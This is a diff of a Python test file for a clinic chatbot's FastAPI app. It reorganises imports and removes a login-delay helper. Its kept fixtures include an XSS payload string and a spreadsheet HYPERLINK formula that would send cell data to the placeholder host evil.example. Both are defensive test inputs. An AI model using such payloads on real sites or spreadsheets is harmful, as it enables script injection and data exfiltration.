@@ -15,24 +15,14 @@ from typing import Any
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
-from bot.store.appointments import AppointmentForm
 from bot.store.repo import ChatLog
+from bot.store.visitor.appointments import AppointmentForm
 from bot.types import Citation, Reply
 from tests.support.accounts import PASSWORD, add_staff_accounts
-from tests.support.clock import FakeClock
+from tests.support.fakes import FakeClock
 
 XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-class NoSleep:
-    """Records the slow-down delays the login would have waited."""
-
-    def __init__(self) -> None:
-        self.delays: list[float] = []
-
-    async def __call__(self, seconds: float) -> None:
-        self.delays.append(seconds)
 
 
 def insurance_citation(url: str = "https://clinic.example/insurance") -> Citation:
